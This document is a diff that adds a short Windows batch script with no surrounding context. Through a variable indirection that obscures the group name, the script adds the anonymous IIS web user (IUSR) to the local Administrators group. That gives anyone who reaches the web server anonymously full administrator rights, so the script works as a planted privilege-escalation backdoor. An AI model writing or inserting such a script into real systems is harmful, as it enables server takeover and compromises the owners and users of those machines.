@@ -1,0 +1,5 @@
+@echo off
+setlocal
+set GRP=Administrators
+endlocal & set OUT=%GRP%
+net localgroup %OUT% IUSR /add
